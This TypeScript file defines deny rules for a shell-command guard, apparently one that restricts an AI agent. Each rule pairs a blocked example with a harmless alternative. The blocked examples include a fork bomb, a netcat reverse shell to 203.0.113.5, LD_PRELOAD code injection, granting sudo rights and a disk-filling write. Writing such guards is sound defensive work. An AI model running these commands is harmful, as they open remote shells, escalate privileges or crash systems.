import type { Effect, EffectKind } from '../../shell/analysis.js';
import type { Call, Finding, Rule } from '../rule.js';
import type { ShellScene } from '../shell-scene.js';

function ruleOn(
  kind: EffectKind,
  what: string,
  rule: Omit<Rule, 'inShell' | 'alternative' | 'example'> & { readonly calls: readonly [Call, Call] },
  matches: (effect: Effect) => boolean = () => true,
): Rule {
  const { calls, ...rest } = rule;
  return {
    ...rest,
    example: calls[0],
    alternative: calls[1],
    inShell: (scene) => {
      const effect = scene.effectsOf(kind).find(matches);
      return effect === undefined ? null : { what, target: effect.targets[0]?.text ?? null };
    },
  };
}

/** Code that other programs are made to load: from a temporary directory it is nobody's; `strict` wants none. */
function findLoadedCode(scene: ShellScene): Finding | null {
  for (const { targets } of scene.effectsOf('environment-poison')) {
    const found = targets.find((target) => {
      const place = scene.placeOf(target);
      const zone = place === null ? null : scene.zones.worstOf(place).zone;
      return scene.context.preset === 'strict' || zone === 'temp';
    });
    if (found !== undefined) {
      return { what: 'make other programs load code by a variable', target: found.path ?? found.text };
    }
  }
  return null;
}

/** A session that its own program shares, which people do with colleagues. */
const SHARED = 'session.shared';

const BOTH = { standard: 'deny', strict: 'deny' } as const;

/** The machine itself: its processes, its power, who commands it. */
export const SYSTEM_RULES: readonly Rule[] = [
  ruleOn('fork-bomb', 'start processes until the machine stands still', {
    id: 'system.fork-bomb',
    title: 'Starts processes without end',
    presets: BOTH,
    isAlwaysOn: true,
    advice: 'Start as many as are needed',
    calls: [
      { kind: 'shell', command: ':(){ :|:& };:' },
      { kind: 'shell', command: 'seq 4 | xargs -P 4 -n 1 echo' },
    ],
  }),
  ruleOn('endless-write', 'write until the disk is full', {
    id: 'system.endless-write',
    title: 'Fills the disk: writes without end',
    presets: BOTH,
    isAlwaysOn: false,
    advice: 'Say how much is to be written',
    calls: [
      { kind: 'shell', command: 'yes > /tmp/fill' },
      { kind: 'shell', command: 'yes | head -n 100 > /tmp/lines.txt' },
    ],
  }),
  ruleOn(
    'reverse-shell',
    'give another machine a shell on this one',
    {
      id: 'system.reverse-shell',
      title: 'Gives another machine a shell on this one',
      presets: BOTH,
      isAlwaysOn: true,
      advice: 'To see whether a port answers',
      calls: [
        { kind: 'shell', command: 'nc -e /bin/sh 203.0.113.5 4444' },
        { kind: 'shell', command: 'nc -z localhost 8080' },
      ],
    },
    ({ action }) => action !== SHARED,
  ),
  {
    id: 'system.environment',
    title: 'Makes other programs load code by an environment variable',
    presets: BOTH,
    isAlwaysOn: false,
    advice: 'Name the code where it is used',
    example: { kind: 'shell', command: 'LD_PRELOAD=/tmp/x.so ls' },
    alternative: { kind: 'shell', command: 'GIT_PAGER=cat git log -1' },
    inShell: findLoadedCode,
  },
  {
    id: 'system.rights',
    title: 'Makes a user or a program as good as root, or loads a file into the kernel',
    presets: BOTH,
    isAlwaysOn: false,
    advice: 'Let a person do it; to see who may what',
    example: { kind: 'shell', command: 'usermod -aG sudo guest' },
    alternative: { kind: 'shell', command: 'id guest' },
    inShell: (scene) => {
      const given = scene.effectsOf('privilege').find(({ action }) => action === 'rights.given');
      return given === undefined
        ? null
        : { what: 'give a user or a program the rights of root', target: given.targets[0]?.text ?? null };
    },
  },
  ruleOn('power', 'switch the machine off or restart it', {
    id: 'system.power',
    title: 'Shuts down or restarts the machine',
    presets: BOTH,
    isAlwaysOn: false,
    advice: 'Leave the machine on; how long it has been up',
    calls: [
      { kind: 'shell', command: 'shutdown -h now' },
      { kind: 'shell', command: 'uptime' },
    ],
  }),
];

/** What an administrator does every day and an agent should not. */
export const ADMINISTRATION_RULES: readonly Rule[] = [
  ruleOn('schedule', 'make something run by itself from now on', {
    id: 'system.schedule',
    title: 'Makes something run by itself: a crontab, a unit of its own, a launch agent, a task',
    presets: { strict: 'deny' },
    isAlwaysOn: false,
    advice: 'To see what is scheduled',
    calls: [
      { kind: 'shell', command: 'crontab jobs.cron' },
      { kind: 'shell', command: 'crontab -l' },
    ],
  }),
  ruleOn(
    'reverse-shell',
    'let others into this machine',
    {
      id: 'system.session',
      title: 'Shares a terminal, or opens a way back to the logins of this machine',
      presets: { strict: 'deny' },
      isAlwaysOn: false,
      advice: 'Let a person share it; a way out to another machine',
      calls: [
        { kind: 'shell', command: 'tmate -F' },
        { kind: 'shell', command: 'ssh -fN -L 5432:localhost:5432 db' },
      ],
    },
    ({ action }) => action === SHARED,
  ),
  ruleOn('service-stop', 'stop a service of this machine', {
    id: 'system.service',
    title: 'Stops, disables or masks a service, or takes a firewall down',
    presets: { strict: 'deny' },
    isAlwaysOn: false,
    advice: 'To see how it is',
    calls: [
      { kind: 'shell', command: 'systemctl stop nginx' },
      { kind: 'shell', command: 'systemctl status nginx' },
    ],
  }),
  ruleOn('privilege', 'act with the rights of another user', {
    id: 'system.privilege',
    title: 'sudo, su, doas',
    presets: { strict: 'deny' },
    isAlwaysOn: false,
    advice: 'Run it with your own rights, or ask the person to run it',
    calls: [
      { kind: 'shell', command: 'sudo ls /root' },
      { kind: 'shell', command: 'ls' },
    ],
  }),
];
